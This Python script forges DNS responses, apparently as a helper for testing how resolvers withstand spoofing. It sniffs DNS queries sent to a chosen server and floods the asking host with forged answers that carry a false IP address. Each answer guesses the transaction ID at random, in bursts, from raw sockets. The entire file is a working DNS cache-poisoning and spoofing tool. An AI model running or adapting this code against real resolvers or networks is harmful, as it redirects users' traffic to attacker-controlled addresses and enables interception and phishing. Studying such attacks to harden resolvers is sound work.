# SPDX-License-Identifier: Apache-2.0
"""A forger who sees port, name and letters of each question, and guesses its id:

    guesser.py ADDRESS RATE FALSE

Sends, RATE times a second, replies from ADDRESS, port 53, to the question that was seen
last, with FALSE as the address in it. "ready" on standard output says that it watches; at
the end of standard input it prints how many it has sent.
"""

from __future__ import annotations

import random
import select
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800  # linux/if_ether.h
UDP, HEADER, OPT_LEN = 8, 12, 11
BURST = 50


def last_question(sniffer: socket.socket, server: bytes) -> tuple[str, int, bytes] | None:
    """Who asked it, from which port, and the message; of all that has come since."""
    found = None
    while True:
        try:
            packet = sniffer.recv(2048)
        except BlockingIOError:
            return found
        size = (packet[0] & 15) * 4
        if packet[9] == socket.IPPROTO_UDP and packet[16:20] == server:
            port, to = struct.unpack_from("!HH", packet, size)
            if to == 53:
                found = (socket.inet_ntoa(packet[12:16]), port, packet[size + UDP:])


def forged(message: bytes, port: int, false: bytes) -> tuple[bytes, bytes]:
    """A UDP datagram, but for the id in the middle. No checksum: RFC 768 allows that."""
    question = message[HEADER:-OPT_LEN]
    body = b"\x81\x80\0\1\0\1\0\0\0\0" + question + b"\xc0\x0c\0\1\0\1\0\0\1\x2c\0\4" + false
    return struct.pack("!HHHH", 53, port, UDP + 2 + len(body), 0), body


def main(address: str, rate: int, false: str) -> None:
    server = socket.inet_aton(address)
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sniffer.setblocking(False)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    out.bind((address, 0))
    print("ready", flush=True)
    sent, began, question = 0, time.monotonic(), None
    while not select.select([sys.stdin], [], [], 0)[0]:
        question = last_question(sniffer, server) or question
        if question is None or sent > (time.monotonic() - began) * rate:
            select.select([sys.stdin, sniffer], [], [], 0.001)
            continue
        host, port, message = question
        head, body = forged(message, port, socket.inet_aton(false))
        for _ in range(BURST):
            out.sendto(head + random.randbytes(2) + body, (host, 0))
        sent += BURST
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
